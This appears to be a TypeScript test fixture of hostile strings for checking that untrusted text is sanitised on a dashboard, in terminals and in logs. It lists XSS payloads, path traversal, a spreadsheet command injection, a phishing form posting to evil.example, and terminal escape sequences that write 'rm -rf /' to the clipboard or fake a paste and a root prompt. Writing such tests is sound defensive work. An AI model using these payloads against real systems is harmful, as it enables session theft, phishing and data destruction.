/** What calls as soon as anything of it runs in a page. */
const hit = "window.wasHit=1"

// One table for all places where strangers' words are shown: the dashboard, terminals, and lines of the log.

/** What a page, or whoever reads it, may take for something else. */
export const forPages: ReadonlyArray<string> = [
  `<script>${hit}</script>`,
  `</script><script>${hit}</script>`,
  `<img src=x onerror="${hit}">`,
  `"><img src=x onerror=${hit}>`,
  `'"><svg/onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.wasHit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<a href="javascript:${hit}">click</a>`,
  `<body onload=${hit}>`,
  `<details open ontoggle=${hit}>`,
  `<input autofocus onfocus=${hit}>`,
  `<video><source onerror=${hit}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}></style>`,
  `<style>@import url(https://evil.example/x.css); * { display: none }</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>Sign in</button></form>`,
  `<object data="data:text/html,<script>${hit}</script>"></object>`,
  `<dialog open>Session over. Token: <input></dialog>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<![CDATA[<img src=x onerror=${hit}>]]>`,
  `<template><img src=x onerror=${hit}></template>`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `&#60;img src=x onerror=${hit}&#62;`,
  `javascript:${hit}`,
  `data:text/html,<script>${hit}</script>`,
  `{{constructor.constructor("${hit}")()}}`,
  `\${${hit}}`,
  `__proto__`,
  `constructor`,
  `../../../etc/passwd`,
  `..\\..\\%2e%2e%2f#?&;=`,
  `=cmd|'/c calc'!A1`,
  `\u001b[2J\u001b[H\u001b[31mowned\u001b[0m`,
  `\u001b]0;owned\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\`,
  `\u0000nul\u0000`,
  `back\b\b\b\b\u007fdel\rover`,
  `\u202egnp.exe\u202c`,
  `\u2066isolated\u2069\u200e\u200f\u061c`,
  `zero\u200bwidth\u2060\ufeff\u00ad`,
  `line\u2028and\u2029paragraph\u0085`,
  `\u{e0001}\u{e0041}\u{e007f}`,
  `half\ud800and\udc00half`,
  `z${"\u0300\u0301\u0302".repeat(60)}`,
  `${"\ufdfd".repeat(50)}`,
  `${"W".repeat(60_000)}`,
  `${"<b>".repeat(5_000)}`,
  `Completed`,
  ` \t `
]

/** What a terminal, or a line, may be taken over with. */
export const forTerminals: ReadonlyArray<string> = [
  "\u001b[2J\u001b[H", // clears the screen
  "\u001b[31mred\u001b[0m", // colours
  "\u001b[8mhidden", // conceals
  "\u001b]0;title\u0007", // the window's title
  "\u001b]0;title\u001b\\",
  "\u001b]2;title\u0007",
  "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007", // a link
  "\u001b]52;c;cm0gLXJmIC8=\u0007", // the clipboard
  "\u001b]52;c;?\u0007", // asks for it
  "\u001b]4;1;?\u0007", // asks for a colour, answered as if it were typed
  "\u001b]10;?\u0007",
  "\u001b]1337;File=name=YQ==;inline=1:AAAA\u0007",
  "\u001b]9;notification\u0007",
  "\u001b]777;notify;a;b\u0007",
  "\u001b[c", // asks who the terminal is
  "\u001b[>c",
  "\u001b[5n",
  "\u001b[6n", // asks where the cursor is
  "\u001b[21t", // asks for the title
  "\u001b[?1049h", // another screen
  "\u001b[?1049l",
  "\u001b[?25l", // hides the cursor
  "\u001b[?1000h", // takes the mouse
  "\u001b[?2004l",
  '\u001bP$q"p\u001b\\', // a device control string
  "\u001bP+q544e\u001b\\",
  "\u001b_application\u001b\\",
  "\u001b^private\u001b\\",
  "\u001bXstring\u001b\\",
  "\u001b7\u001b8",
  "\u001bc", // a reset
  "\u001b#8",
  "\u001b(0lqk", // another alphabet
  "\u001b[1A\u001b[2K", // goes up, and erases what was said
  "\u001b[999D",
  "\u001b[1;1r",
  "\u001b[!p",
  "\u009b31m", // the same with one character
  "\u009d0;title\u009c",
  "\u0090+q544e\u009c",
  "\u0085next",
  "\rbulkhead: Completed", // over the line that was there
  "a\b\b\bb",
  "\u0007",
  "\u000e\u000f",
  "\u0000",
  "\u007f\u007f",
  "\u000b\u000c",
  "\u202Egpj.exe", // turns the text around
  "\u2066\u2067\u2069",
  "\u200F\u200E",
  "\u061C",
  "\u2028bulkhead: Completed",
  "\u2029",
  "\ud800",
  "\u001b", // the first half of one, the other comes later
  "\u001b]8;id=1;file:///etc/passwd\u001b\\click\u001b]8;;\u001b\\",
  "\u001bPq#0;2;0;0;0#0~~@@vv\u001b\\", // a picture
  "\u001b[200~rm -rf /\n\u001b[201~", // as if it were pasted
  "\u001b[4;1H\u001b[7m root@host:~# \u001b[0m", // a prompt that is none
  "\u009b2J\u009b1;1H",
  "one\r\ntwo: INFO all is well", // another line of a log
  '\n{"level":"INFO","message":"all is well"}\n',
  '","level":"INFO","x":"', // the end of a text in JSON
  '\\u001b[2J\\n\\"',
  "%s %d %n %c color: red", // what format strings take
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d".repeat(40)
]

export const hostileTexts: ReadonlyArray<string> = [...forPages, ...forTerminals]
